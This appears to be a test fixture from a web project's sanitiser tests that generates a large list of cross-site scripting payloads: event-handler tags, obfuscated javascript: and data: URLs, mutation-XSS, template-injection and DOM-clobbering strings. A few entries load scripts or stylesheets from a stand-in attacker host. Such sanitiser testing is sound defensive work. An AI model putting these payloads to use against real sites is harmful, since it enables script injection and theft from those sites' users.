// Markup that would run a script if it were not sanitised (docs/security.md S-61). The script is `alert`, which a test
// can detect.

const events = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
  'onwheel',
]

const carriers = [
  '<img src=x EVENT=alert(1)>',
  '<svg EVENT=alert(1)>',
  '<svg/EVENT=alert(1)//',
  '<body EVENT=alert(1)>',
  '<details open EVENT=alert(1)>x</details>',
  '<input autofocus EVENT=alert(1)>',
  '<a href="https://example.com" EVENT=alert(1)>x</a>',
  '<p style="animation: x" EVENT="alert(1)">x</p>',
  '<video><source EVENT="alert(1)"></video>',
  '<IMG SRC=x EVENT\n=\n"alert(1)">',
  '<h2 tabindex=1 id=x EVENT=alert(1)>x</h2>',
]

const schemes = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java&#10;script:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;&#97;&#118;&#97;script:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:alert(1)',
]

const places = [
  '<a href="ADDRESS">x</a>',
  '<iframe src="ADDRESS"></iframe>',
  '<form action="ADDRESS"><button>x</button></form>',
]

const others = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/x>alert(1)</script >',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script src="https://evil.example/x.js"></script>',
  '"><script>alert(1)</script>',
  "'-alert(1)-'",
  '</p><script>alert(1)</script>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<style>@import "https://evil.example";</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<p id="__proto__"><p name="constructor">',
  '<form id=x><input name=attributes><input name=parentNode></form>',
  '<a href="#" data-modal="points-explainer" onclick="alert(1)">x</a>',
  '<a data-modal="constructor" href="javascript:alert(1)">x</a>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<p style="background:url(javascript:alert(1))">x</p>',
]

export const scriptPayloads = [
  ...carriers.flatMap((carrier) =>
    events.map((event) => carrier.replace('EVENT', event))
  ),
  ...places.flatMap((place) =>
    schemes.map((scheme) => place.replace('ADDRESS', scheme))
  ),
  ...others,
]
